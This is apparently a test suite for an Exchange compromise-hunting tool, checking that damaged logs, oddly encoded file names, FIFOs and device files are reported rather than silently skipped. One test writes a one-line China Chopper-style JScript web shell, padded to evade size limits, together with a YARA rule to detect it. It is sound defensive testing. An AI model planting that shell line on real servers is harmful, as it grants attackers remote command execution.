// Evidence that used to vanish without a word (issue 17 group d): a stray NUL or UTF-16 in a log's head, lone-CR
// line ends, file names that are not UTF-8, FIFOs, sockets and devices. Each case starts from the compromised example host
// (whose HttpProxy, ECP and IIS logs carry the ProxyLogon chain) and must give back every finding of the original,
// or name what it could not read in the host's skipped list.
import { execFileSync } from 'node:child_process';
import { cpSync, mkdtempSync, readFileSync, readdirSync, renameSync, rmSync, unlinkSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:net';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { scan } from '../../src/engine/scan.js';
import type { HostResult } from '../../src/model.js';
import { collect } from '../../src/response/collect.js';
import { closeZips } from '../../src/evidence/zip.js';
import { displayName, walkFiles } from '../../src/evidence/walk.js';
import { needYara } from '../support/yara.js';

const MAIL01 = resolve('examples/evidence/mail01-compromised');
const EX = 'C/Program Files/Microsoft/Exchange Server/V15';
const ECP_PROXY = `${EX}/Logging/HttpProxy/Ecp/HttpProxy_2021030306-1.LOG`;
const SHELL_DIR = 'C/inetpub/wwwroot/aspnet_client/system_web';
const dir = mkdtempSync(join(tmpdir(), 'exhunt-silent-'));
afterAll(async () => {
  await closeZips();
  execFileSync('rm', ['-rf', join(dir, 'deep')]); // too deep for rmSync's recursion
  rmSync(dir, { recursive: true, force: true });
});

/** A copy of mail01 changed by `edit`. */
function host(name: string, edit: (root: string) => void): string {
  const root = join(dir, name);
  cpSync(MAIL01, root, { recursive: true });
  edit(root);
  return root;
}

async function scanOne(path: string): Promise<HostResult> {
  return (await scan({ paths: [path], jobs: 1 })).hosts[0];
}

const key = (h: HostResult) => h.findings.map((f) => `${f.rule} ${f.source.path}:${f.source.line ?? ''}`).sort();

let original: HostResult;
beforeAll(async () => {
  original = await scanOne(MAIL01);
  // What the chain rests on: without the Ecp HttpProxy log, PL-02 (SSRF to the back end) is gone.
  expect(original.findings.filter((f) => f.rule === 'PL-02').length).toBeGreaterThan(0);
});

describe('text logs in the shapes real servers and admins leave them', () => {
  const cases: Array<[string, (b: Buffer) => Buffer]> = [
    ['a single NUL byte in the first KB of the HttpProxy log', (b) => {
      const c = Buffer.from(b);
      c[c.indexOf('#Date') + 30] = 0;
      return c;
    }],
    ['a NUL inside its #Log-type line (classified by its #Fields)', (b) => {
      const c = Buffer.from(b);
      c[c.indexOf('#Log-type') + 12] = 0;
      return c;
    }],
    ['the HttpProxy log re-saved as UTF-16LE with a BOM', (b) => Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(b.toString('utf8'), 'utf16le')])],
    ['the HttpProxy log as UTF-16LE without a BOM', (b) => Buffer.from(b.toString('utf8'), 'utf16le')],
    ['the HttpProxy log as UTF-16BE with a BOM', (b) => Buffer.from(`\ufeff${b.toString('utf8')}`, 'utf16le').swap16()],
  ];
  for (const [label, edit] of cases) {
    it(`${label}: every finding back (the PL-02 chain too), nothing ignored`, async () => {
      const h = await scanOne(host(label.replace(/\W+/g, '-'), (root) => writeFileSync(join(root, ECP_PROXY), edit(readFileSync(join(root, ECP_PROXY))))));
      expect(h.stats.files_ignored).toBe(0);
      expect(key(h)).toEqual(key(original));
      expect(h.verdict).toBe(original.verdict);
    });
  }

  it('an IIS W3C log saved as UTF-16LE with a BOM (its 17 findings) and without: every finding back', async () => {
    const iis = 'C/inetpub/logs/LogFiles/W3SVC1/u_ex210303.log';
    expect(original.findings.filter((f) => f.source.path === iis)).toHaveLength(17);
    for (const bom of [true, false]) {
      const h = await scanOne(
        host(`iis-utf16-${bom}`, (root) => {
          const text = readFileSync(join(root, iis), 'utf8');
          writeFileSync(join(root, iis), Buffer.concat([Buffer.from(bom ? [0xff, 0xfe] : []), Buffer.from(text, 'utf16le')]));
        }),
      );
      expect(h.stats.files_ignored).toBe(0);
      expect(key(h)).toEqual(key(original));
    }
  });

  it('every log with lone-CR line ends: the same findings at the same line numbers', async () => {
    const h = await scanOne(
      host('lone-cr', (root) => {
        for (const f of logsUnder(root)) writeFileSync(f, readFileSync(f, 'utf8').replace(/\r?\n/g, '\r'));
      }),
    );
    expect(key(h)).toEqual(key(original));
    expect(h.coverage).toEqual(original.coverage);
  });

  it('mixed line ends: a record hidden behind a lone CR inside a CRLF log is read as its own line', async () => {
    const h = await scanOne(
      host('hidden-cr', (root) => {
        const p = join(root, ECP_PROXY);
        const lines = readFileSync(p, 'utf8').split('\r\n');
        // Join every record to the one before it with a lone CR: a LF-only reader sees half as many lines.
        writeFileSync(p, lines.map((l, i) => (i % 2 === 1 && !l.startsWith('#') ? `${l}\r` : `${l}\r\n`)).join('').replace(/\r\r\n/g, '\r'));
      }),
    );
    expect(key(h).filter((k) => k.includes('HttpProxy/Ecp'))).toEqual(key(original).filter((k) => k.includes('HttpProxy/Ecp')));
  });

  it('a HttpProxy log whose header lines are all damaged is claimed by its name, and its unreadable lines named', async () => {
    const h = await scanOne(
      host('no-header', (root) => {
        const p = join(root, ECP_PROXY);
        writeFileSync(p, readFileSync(p, 'latin1').replace(/^#(Log-type|Fields)/gm, '#\u0000$1'), 'latin1');
      }),
    );
    expect(h.stats.files_ignored).toBe(0);
    // HttpProxy columns differ between Exchange versions: without its #Fields no layout is guessed, and it says so.
    expect(h.skipped).toContainEqual({ path: ECP_PROXY, line: 6, reason: 'data before any #Fields or header line (13 lines in all)' });
  });

  it('a binary file named like a text log is named in skipped, not ignored in silence', async () => {
    const h = await scanOne(host('binary-log', (root) => writeFileSync(join(root, ECP_PROXY), Buffer.alloc(8192, 0))));
    expect(h.skipped).toContainEqual({ path: ECP_PROXY, reason: expect.stringMatching(/^named like a text log but binary \(4096 NUL/), unread: 'file' });
  });
});

function logsUnder(root: string): string[] {
  const out: string[] = [];
  const walk = (d: string) => {
    for (const e of readdirSync(d, { withFileTypes: true })) {
      if (e.isDirectory()) walk(join(d, e.name));
      else if (/\.log$/i.test(e.name)) out.push(join(d, e.name));
    }
  };
  walk(root);
  return out;
}

const BAD_NAME = Buffer.concat([Buffer.from('x'), Buffer.from([0xe9, 0xff]), Buffer.from('%.aspx')]);

describe('file names that are not UTF-8', () => {
  it('are shown with the bad bytes as %XX (and % as %25) and kept unchanged when valid', () => {
    expect(displayName(BAD_NAME)).toBe('x%E9%FF%25.aspx');
    expect(displayName(Buffer.from('café %41.aspx'))).toBe('café %41.aspx');
    // overlong "/" and a UTF-16 surrogate written as UTF-8 are not valid UTF-8
    expect(displayName(Buffer.from([0xc0, 0xaf, 0xed, 0xa0, 0x80]))).toBe('%C0%AF%ED%A0%80');
  });

  it('a web shell so named is found by scan (not "not readable: ENOENT")', async () => {
    const root = host('bad-name', (r) => {
      const shell = join(r, SHELL_DIR, 'xHA6boc8.aspx');
      renameSync(shell, Buffer.concat([Buffer.from(join(r, SHELL_DIR) + '/'), BAD_NAME]));
    });
    const h = await scanOne(root);
    expect(h.skipped).toEqual([]);
    const shellFindings = h.findings.filter((f) => f.source.path === `${SHELL_DIR}/x%E9%FF%25.aspx`);
    expect(shellFindings.map((f) => f.rule).sort()).toEqual(original.findings.filter((f) => f.source.path === `${SHELL_DIR}/xHA6boc8.aspx`).map((f) => f.rule).sort());
    expect(h.findings.length).toBe(original.findings.length);
  });

  it('a large web shell so named is scanned by --yara (the engine opens the real file, not its display name)', async (ctx) => {
    needYara(ctx);
    // The strings of signature-base's APT_WEBSHELL_HAFNIUM_Chopper_WebShell (yara/apt_hafnium.yar, cited by WS-20)
    // without its 10 KB size bound: padding a shell past such bounds is the point of the test.
    const rules = join(dir, 'chopper.yar');
    writeFileSync(rules, 'rule Hafnium_Chopper_Unbounded { strings: $x1 = "runat=\\"server\\">" nocase $s1 = "<script language=\\"JScript\\" runat=\\"server\\">function Page_Load(){eval(Request" nocase condition: $x1 and $s1 }\n');
    const root = host('bad-name-yara', (r) => {
      const body = Buffer.concat([Buffer.from('<script language="JScript" runat="server">function Page_Load(){eval(Request["p"],"unsafe");}</script>\r\n'), Buffer.alloc(5 * 1024 * 1024, 0x20)]);
      writeFileSync(Buffer.concat([Buffer.from(join(r, SHELL_DIR) + '/'), BAD_NAME]), body);
    });
    const h = (await scan({ paths: [root], jobs: 1, options: { yaraRules: rules } })).hosts[0];
    expect(h.skipped).toEqual([]);
    const yara = h.findings.filter((f) => f.rule === 'YARA');
    // The example's own small shell (scanned from memory) and the padded one with the bad name (opened by the engine).
    expect(yara.map((f) => [f.source.path, f.evidence.yara_rule]).sort()).toEqual([
      [`${SHELL_DIR}/x%E9%FF%25.aspx`, 'Hafnium_Chopper_Unbounded'],
      [`${SHELL_DIR}/xHA6boc8.aspx`, 'Hafnium_Chopper_Unbounded'],
    ]);
  });

  it('and collected byte for byte under its escaped name', async () => {
    const vol = join(dir, 'vol-bad-name');
    const d = join(vol, 'inetpub', 'wwwroot', 'aspnet_client');
    cpSync(join(MAIL01, SHELL_DIR), d, { recursive: true });
    const body = readFileSync(join(d, 'xHA6boc8.aspx'));
    renameSync(join(d, 'xHA6boc8.aspx'), Buffer.concat([Buffer.from(`${d}/`), BAD_NAME]));
    const out = join(dir, 'case-bad-name');
    const { manifest } = await collect({ volumes: [{ drive: 'C', root: vol }], out, live: false, maxBytes: null, commandLine: 'test' });
    const got = manifest.files.find((f) => f.original.endsWith('x%E9%FF%25.aspx'));
    expect(manifest.errors.filter((e) => !/Exchange install folder not found|^not gathered: /.test(e.error))).toEqual([]);
    expect(got?.path).toBe('files/C/inetpub/wwwroot/aspnet_client/x%E9%FF%25.aspx');
    expect(readFileSync(join(out, ...got!.path.split('/')))).toEqual(body);
  });
});

describe('FIFOs and sockets', () => {
  it('are listed as skipped with their kind by scan, never opened (a FIFO would block the scan)', async (ctx) => {
    const root = host('specials', () => undefined);
    try {
      execFileSync('mkfifo', [join(root, 'C', 'inetpub', 'pipe')]);
    } catch {
      ctx.skip(); // no mkfifo (Windows)
    }
    const server = createServer();
    await new Promise<void>((r) => server.listen(join(root, 'C', 'sock'), r));
    try {
      const h = await scanOne(root);
      expect(h.skipped).toEqual([
        { path: 'C/inetpub/pipe', reason: 'FIFO: not a regular file, not opened (reading a FIFO blocks until something writes to it)' },
        { path: 'C/sock', reason: 'socket: not a regular file, not opened' },
      ]);
      expect(key(h)).toEqual(key(original));
    } finally {
      server.close();
    }
  });

  it('are named in the collect manifest, not copied', async (ctx) => {
    const vol = join(dir, 'vol-fifo');
    cpSync(join(MAIL01, 'C', 'inetpub'), join(vol, 'inetpub'), { recursive: true });
    try {
      execFileSync('mkfifo', [join(vol, 'inetpub', 'wwwroot', 'aspnet_client', 'pipe.aspx')]);
    } catch {
      ctx.skip();
    }
    const { manifest } = await collect({ volumes: [{ drive: 'C', root: vol }], out: join(dir, 'case-fifo'), live: false, maxBytes: null, commandLine: 'test' });
    expect(manifest.errors).toContainEqual({ original: 'C:\\inetpub\\wwwroot\\aspnet_client\\pipe.aspx', error: 'FIFO: not a regular file, not collected' });
    expect(manifest.files.some((f) => f.original.endsWith('pipe.aspx'))).toBe(false);
  });
});

// mknod needs root (CAP_MKNOD) and a file system mounted without nodev; CI runs as root. The character device is
// /dev/zero's (1,5) and is named like an IIS log: opened, it would be read without end, so a scan that opened it
// would not finish. The block device is loop0's (7,0), named like a web shell.
function mknodOr(ctx: { skip: (c: boolean, note?: string) => void }, path: string, kind: 'c' | 'b', major: number, minor: number): void {
  const root = process.getuid?.() === 0;
  ctx.skip(!root, 'device files need root (mknod): not root here');
  try {
    execFileSync('mknod', [path, kind, String(major), String(minor)], { stdio: 'pipe' });
  } catch (e) {
    const why = String((e as { stderr?: Buffer }).stderr ?? e);
    if (!/not permitted|denied/i.test(why)) throw e;
    ctx.skip(true, `mknod refused here (no CAP_MKNOD): ${why.trim()}`);
  }
}

describe('character and block devices', () => {
  const IIS_LOGS = 'C/inetpub/logs/LogFiles/W3SVC1';

  it('are listed as skipped with their kind by scan, never opened', async (ctx) => {
    const root = host('devices', () => undefined);
    mknodOr(ctx, join(root, ...IIS_LOGS.split('/'), 'u_ex210311.log'), 'c', 1, 5);
    mknodOr(ctx, join(root, ...SHELL_DIR.split('/'), 'disk.aspx'), 'b', 7, 0);
    const h = await scanOne(root);
    expect(h.skipped).toEqual([
      { path: `${IIS_LOGS}/u_ex210311.log`, reason: 'character device: not a regular file, not opened' },
      { path: `${SHELL_DIR}/disk.aspx`, reason: 'block device: not a regular file, not opened' },
    ]);
    expect(key(h)).toEqual(key(original));
  });

  it('given as the evidence path itself: skipped, not opened', async (ctx) => {
    const dev = join(dir, 'zero-dev');
    mknodOr(ctx, dev, 'c', 1, 5);
    const h = await scanOne(dev);
    expect(h.skipped).toEqual([{ path: 'zero-dev', reason: 'character device: not a regular file, not opened' }]);
    expect(h.findings).toEqual([]);
  });

  it('are named in the collect manifest, not copied', async (ctx) => {
    const vol = join(dir, 'vol-dev');
    cpSync(join(MAIL01, 'C', 'inetpub'), join(vol, 'inetpub'), { recursive: true });
    mknodOr(ctx, join(vol, 'inetpub', 'logs', 'LogFiles', 'W3SVC1', 'u_ex210311.log'), 'c', 1, 5);
    mknodOr(ctx, join(vol, 'inetpub', 'wwwroot', 'aspnet_client', 'disk.aspx'), 'b', 7, 0);
    const { manifest } = await collect({ volumes: [{ drive: 'C', root: vol }], out: join(dir, 'case-dev'), live: false, maxBytes: null, commandLine: 'test' });
    expect(manifest.errors).toContainEqual({ original: 'C:\\inetpub\\logs\\LogFiles\\W3SVC1\\u_ex210311.log', error: 'character device: not a regular file, not collected' });
    expect(manifest.errors).toContainEqual({ original: 'C:\\inetpub\\wwwroot\\aspnet_client\\disk.aspx', error: 'block device: not a regular file, not collected' });
    expect(manifest.files.some((f) => /u_ex210311\.log$|disk\.aspx$/.test(f.original))).toBe(false);
    // The real IIS logs beside the device were collected.
    expect(manifest.files.some((f) => /W3SVC1\\u_ex\d+\.log$/.test(f.original))).toBe(true);
  });
});

describe('the one walker keeps its limits', () => {
  it('walks a 2,000-deep tree without recursion and lists the file at the bottom', async () => {
    const root = join(dir, 'deep');
    // Made 100 levels at a time from inside (each mkdir stays under PATH_MAX); the full path is about 4 KB.
    const hundred = Array(100).fill('d').join('/');
    execFileSync('sh', ['-c', `mkdir -p ${root} && cd ${root} && for i in $(seq 1 20); do mkdir -p ${hundred} && cd ${hundred}; done && echo x > f.txt`]);
    const problems: string[] = [];
    const files: string[] = [];
    for await (const f of walkFiles(root, { problem: (ps, kind, err) => problems.push(`${kind}:${err?.code}:${ps.length}`) })) files.push(`${f.depth}`);
    // Either the file is listed at depth 2000 or the folder where paths got too long is named: never a crash.
    expect(files.length + problems.length).toBeGreaterThan(0);
    if (files.length) expect(files).toEqual(['2000']);
    else expect(problems[0]).toMatch(/^unreadable:ENAMETOOLONG:/);
  });

  it('does not follow a symbolic link loop', async () => {
    const root = join(dir, 'loop');
    execFileSync('sh', ['-c', `mkdir -p ${root}/a && ln -s .. ${root}/a/up && echo x > ${root}/a/f.txt`]);
    const problems: string[] = [];
    const files: string[] = [];
    for await (const f of walkFiles(root, { problem: (ps, kind) => problems.push(`${kind}:${ps.join('/')}`) })) files.push(f.parts.join('/'));
    expect(files).toEqual(['a/f.txt']);
    expect(problems).toEqual(['link:a/up']);
    unlinkSync(join(root, 'a', 'up'));
  });
});
